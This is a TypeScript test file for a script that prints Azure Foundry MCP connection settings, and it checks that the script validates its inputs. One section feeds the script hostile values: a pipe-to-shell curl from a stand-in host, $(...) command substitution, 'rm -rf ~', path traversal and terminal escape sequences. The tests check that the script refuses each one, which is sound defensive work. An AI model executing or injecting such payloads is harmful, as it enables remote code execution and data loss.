// Runs `npm run foundry:config`'s script against sample azd environments, as a user would.
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { devConnection, writeDevConnection } from '../../sandbox/devConnection.js';
import { REPO_ROOT } from './infraFiles.js';

const SCRIPT = join(REPO_ROOT, 'infra', 'scripts', 'foundryConfig.mjs');
const TENANT = '72f988bf-0000-4000-8000-00000000c0de';
const SERVER = '6f2d1e4a-0000-4000-8000-000000000001';
const CLIENT = '9c3b8a71-0000-4000-8000-000000000002';
const LOGIN = `https://login.microsoftonline.com/${TENANT}/oauth2/v2.0`;

const OUTPUTS: Record<string, string> = {
  AZURE_ENV_NAME: 'dev',
  AZURE_TENANT_ID: TENANT,
  MCP_URL: 'https://func-api-abc123.azurewebsites.net/mcp',
  SERVER_APP_ID: SERVER,
  CLIENT_APP_ID: CLIENT,
  FOUNDRY_AUTH_URL: `${LOGIN}/authorize`,
  FOUNDRY_TOKEN_URL: `${LOGIN}/token`,
  FOUNDRY_REFRESH_URL: `${LOGIN}/token`,
  FOUNDRY_SCOPES: `${SERVER}/access_as_user offline_access`,
  ADMIN_CONSENT_URL: `https://login.microsoftonline.com/${TENANT}/adminconsent?client_id=${SERVER}`,
};

/** Foundry's field label and the value the script must print for it. */
const EXPECTED: [string, string][] = [
  ['MCP server endpoint', OUTPUTS['MCP_URL'] ?? ''],
  ['Client ID', CLIENT],
  ['Auth URL', `${LOGIN}/authorize`],
  ['Token URL', `${LOGIN}/token`],
  ['Refresh URL', `${LOGIN}/token`],
  ['Scopes', `${SERVER}/access_as_user offline_access`],
];

interface Run {
  readonly code: number;
  readonly stdout: string;
  readonly stderr: string;
}

/**
 * Runs the script as the npm script does, with no shell and a bare environment so nothing of this machine leaks in.
 * `--` keeps node itself from claiming the script's --env-file argument.
 */
function runScript(args: readonly string[], cwd: string = REPO_ROOT): Promise<Run> {
  return new Promise((resolve) => {
    execFile(process.execPath, ['--', SCRIPT, ...args], { cwd, env: { PATH: process.env['PATH'] ?? '' } }, (error, stdout, stderr) => {
      const code = error === null ? 0 : typeof error.code === 'number' ? error.code : -1;
      resolve({ code, stdout, stderr });
    });
  });
}

function dotenv(values: Record<string, string>): string {
  return Object.entries(values)
    .map(([key, value]) => `${key}="${value.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`)
    .join('\n');
}

function lineOf(output: string, label: string): string | undefined {
  return output.split('\n').find((line) => line.trimStart().startsWith(`${label} `));
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

/** The printed row for `label`: the label, spaces, then exactly `value`. */
function printsField(output: string, label: string, value: string): boolean {
  return new RegExp(`^\\s*${escapeRegExp(label)}\\s+${escapeRegExp(value)}$`, 'm').test(output);
}

let dir = '';

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'foundry-config-'));
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('foundryConfig.mjs', () => {
  it('prints every Foundry connection field from --env-file', async () => {
    const file = join(dir, 'complete.env');
    await writeFile(file, `${dotenv(OUTPUTS)}\n`);
    const run = await runScript(['--env-file', file]);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    for (const [label, value] of EXPECTED) {
      expect(printsField(run.stdout, label, value), `${label}: ${lineOf(run.stdout, label) ?? '(not printed)'}`).toBe(true);
    }
    expect(run.stdout).toContain(`az ad app credential reset --id ${CLIENT} --display-name foundry --years 1`);
    expect(run.stdout).toContain(OUTPUTS['ADMIN_CONSENT_URL']);
    expect(run.stdout).toContain('azd env set FOUNDRY_REDIRECT_URI');
  });

  it('never prints a secret it finds in the environment', async () => {
    const file = join(dir, 'with-secret.env');
    await writeFile(file, `${dotenv({ ...OUTPUTS, FOUNDRY_CLIENT_SECRET: 'Zx8Q~not-for-printing', ENTRA_CLIENT_SECRET: 'also-not-for-printing' })}\n`);
    const run = await runScript(['--env-file', file]);
    expect(run.code).toBe(0);
    expect(run.stdout).not.toContain('not-for-printing');
  });

  it('reads the default azd environment named in .azure/config.json', async () => {
    const project = join(dir, 'project');
    await mkdir(join(project, '.azure', 'staging'), { recursive: true });
    await writeFile(join(project, '.azure', 'config.json'), JSON.stringify({ version: 1, defaultEnvironment: 'staging' }));
    await writeFile(join(project, '.azure', 'staging', '.env'), `${dotenv(OUTPUTS)}\n`);
    const run = await runScript([], project);
    expect(run.code).toBe(0);
    expect(printsField(run.stdout, 'Client ID', CLIENT)).toBe(true);
  });

  it('prints the fields as JSON with --json', async () => {
    const file = join(dir, 'json.env');
    await writeFile(file, `${dotenv(OUTPUTS)}\n`);
    const run = await runScript(['--env-file', file, '--json']);
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject(Object.fromEntries(EXPECTED));
  });

  it('prints the public client for code-first agents when the deployment registered one, and nothing about it otherwise', async () => {
    const publicClient = '3d4c5b6a-0000-4000-8000-000000000003';
    const withIt = join(dir, 'public-client.env');
    await writeFile(withIt, `${dotenv({ ...OUTPUTS, PUBLIC_CLIENT_APP_ID: publicClient })}\n`);
    const run = await runScript(['--env-file', withIt]);
    expect(run.code).toBe(0);
    expect(printsField(run.stdout, 'Public client ID', publicClient)).toBe(true);
    expect(run.stdout).toContain('npm run example:code-first -- --config onbehalf.json');

    const without = join(dir, 'no-public-client.env');
    await writeFile(without, `${dotenv({ ...OUTPUTS, PUBLIC_CLIENT_APP_ID: '' })}\n`);
    const none = await runScript(['--env-file', without]);
    expect(none.code).toBe(0);
    expect(none.stdout).not.toMatch(/public client/i);
  });

  it('exits 1 naming each missing value', async () => {
    const { CLIENT_APP_ID: _client, FOUNDRY_SCOPES: _scopes, ...partial } = OUTPUTS;
    const file = join(dir, 'partial.env');
    await writeFile(file, `${dotenv(partial)}\n`);
    const run = await runScript(['--env-file', file]);
    expect(run.code).toBe(1);
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain('CLIENT_APP_ID');
    expect(run.stderr).toContain('FOUNDRY_SCOPES');
    expect(run.stderr).not.toContain('MCP_URL');
  });

  it('exits 1 when the env file does not exist', async () => {
    const run = await runScript(['--env-file', join(dir, 'nowhere.env')]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('nowhere.env');
  });
});

/** Anything a terminal would act on: C0/C1 controls (ESC, BEL, CSI), DEL. */
const TERMINAL_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe('foundryConfig.mjs with hostile values', () => {
  async function runWith(values: Record<string, string>, args: readonly string[] = []): Promise<Run> {
    const file = join(dir, `hostile-${Math.random().toString(36).slice(2)}.env`);
    await writeFile(file, `${dotenv(values)}\n`);
    return runScript(['--env-file', file, ...args]);
  }

  it.each([
    ['CLIENT_APP_ID', `${CLIENT}; curl https://evil.example | sh`],
    ['CLIENT_APP_ID', '$(touch /tmp/pwned)'],
    ['SERVER_APP_ID', 'not-a-guid'],
    ['PUBLIC_CLIENT_APP_ID', '$(touch /tmp/pwned)'],
    ['AZURE_TENANT_ID', '../../etc'],
  ])('refuses %s that is not a GUID: %s', async (name, value) => {
    const run = await runWith({ ...OUTPUTS, [name]: value });
    expect(run.code).toBe(1);
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain(`${name} must be a`);
  });

  it.each([
    ['MCP_URL', 'http://func-api-abc123.azurewebsites.net/mcp'],
    ['MCP_URL', 'https://user:password@func.example/mcp'],
    ['FOUNDRY_AUTH_URL', `${LOGIN}/authorize$(id)`],
    ['FOUNDRY_TOKEN_URL', `${LOGIN}/token'; rm -rf ~; echo '`],
    ['FOUNDRY_REFRESH_URL', 'javascript:alert(1)'],
    ['ADMIN_CONSENT_URL', 'https://login.example/`id`'],
    ['FOUNDRY_REDIRECT_URI', 'https://ok.example/cb,https://x.example/"$(id)"'],
  ])('refuses %s that is not a plain https URL: %s', async (name, value) => {
    const run = await runWith({ ...OUTPUTS, [name]: value });
    expect(run.code).toBe(1);
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain(name);
  });

  it('refuses scopes that are not space-separated scope tokens', async () => {
    const run = await runWith({ ...OUTPUTS, FOUNDRY_SCOPES: `${SERVER}/access_as_user\noffline_access` });
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('FOUNDRY_SCOPES');
  });

  it('never passes control characters to the terminal, in what it refuses or what it prints', async () => {
    const escape = '\u001b]0;owned\u0007\u001b[2J\u009b31m';
    const refused = await runWith({ ...OUTPUTS, CLIENT_APP_ID: `${CLIENT}${escape}`, MCP_URL: `https://func.example/mcp${escape}` });
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('CLIENT_APP_ID');
    expect(refused.stderr).toContain('\\u001b');
    expect(refused.stderr).not.toMatch(TERMINAL_CONTROL);

    // A file name is printed as the source, and the shell lets it hold an escape sequence.
    const file = join(dir, `prod\u001b[31m\u009b2J.env`);
    await writeFile(file, `${dotenv(OUTPUTS)}\n`);
    const printed = await runScript(['--env-file', file]);
    expect(printed.code).toBe(0);
    expect(printed.stdout).toContain('prod[31m2J.env');
    expect(printed.stdout).not.toMatch(TERMINAL_CONTROL);
  });

  it('refuses an azd environment name that leaves .azure/', async () => {
    const run = await runScript(['--environment', '../../etc']);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('azd environment names');
  });
});

describe('foundryConfig.mjs --dev', () => {
  const SECRET = 'dev~rQ3x9Zk1m2N8pL7vT0yB4wC6dF5gH2jK';
  const AUTHORITY = 'https://localhost:7172';

  async function devFile(pid: number, overrides: Record<string, string> = {}): Promise<string> {
    const file = join(dir, `dev-${pid}-${Math.random().toString(36).slice(2)}.json`);
    const connection = devConnection({
      mcpUrl: 'http://localhost:7171/mcp', authorityHost: AUTHORITY, serverClientId: SERVER, foundryClientId: CLIENT,
      foundryClientSecret: SECRET, foundryRedirectUris: ['http://localhost/foundry/redirect'], caCertPath: '/tmp/ca.pem', pid,
    });
    writeDevConnection(file, { ...connection, values: { ...connection.values, ...overrides } });
    return file;
  }

  it('prints the running dev connection, secret included, as the rehearsal reads it', async () => {
    const file = await devFile(process.pid);
    const run = await runScript(['--dev', '--dev-file', file]);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    const authority = `${AUTHORITY}/organizations/oauth2/v2.0`;
    for (const [label, value] of [
      ['MCP server endpoint', 'http://localhost:7171/mcp'], ['Client ID', CLIENT], ['Client secret', SECRET],
      ['Auth URL', `${authority}/authorize`], ['Token URL', `${authority}/token`], ['Refresh URL', `${authority}/token`],
      ['Scopes', `${SERVER}/access_as_user offline_access`],
    ] as const) {
      expect(printsField(run.stdout, label, value), `${label}: ${lineOf(run.stdout, label) ?? '(not printed)'}`).toBe(true);
    }
    expect(run.stdout).toContain('npm run foundry:rehearse');
    expect(run.stdout).toContain('NODE_EXTRA_CA_CERTS):\n  /tmp/ca.pem\n');

    const json = await runScript(['--dev-file', file, '--json']);
    expect(JSON.parse(json.stdout)).toEqual({
      'MCP server endpoint': 'http://localhost:7171/mcp', 'Client ID': CLIENT, 'Client secret': SECRET,
      'Auth URL': `${authority}/authorize`, 'Token URL': `${authority}/token`, 'Refresh URL': `${authority}/token`,
      Scopes: `${SERVER}/access_as_user offline_access`,
      // What a local client needs besides the form: where the code may go, and what to trust.
      'Redirect URLs': ['http://localhost/foundry/redirect'],
      'CA certificates': '/tmp/ca.pem',
    });
  });

  it('refuses a CA path that is not an absolute path', async () => {
    const file = join(dir, `dev-ca-${Math.random().toString(36).slice(2)}.json`);
    const connection = devConnection({
      mcpUrl: 'http://localhost:7171/mcp', authorityHost: AUTHORITY, serverClientId: SERVER, foundryClientId: CLIENT,
      foundryClientSecret: SECRET, foundryRedirectUris: [], caCertPath: 'ca.pem\u001b[2J', pid: process.pid,
    });
    writeDevConnection(file, connection);
    const run = await runScript(['--dev-file', file, '--json']);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('caCertPath must be an absolute file path');
    expect(run.stderr).not.toMatch(TERMINAL_CONTROL);
  });

  it('refuses the file of an npm start that has stopped', async () => {
    const run = await runScript(['--dev-file', await devFile(999_999_999)]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('no longer running');
  });

  it('says how to get one when there is none', async () => {
    const run = await runScript(['--dev'], dir);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('npm start');
  });

  it('validates the dev values like any other', async () => {
    const run = await runScript(['--dev-file', await devFile(process.pid, { FOUNDRY_CLIENT_SECRET: 'x\u001b[2J' })]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('FOUNDRY_CLIENT_SECRET');
    expect(run.stderr).not.toMatch(TERMINAL_CONTROL);
  });
});
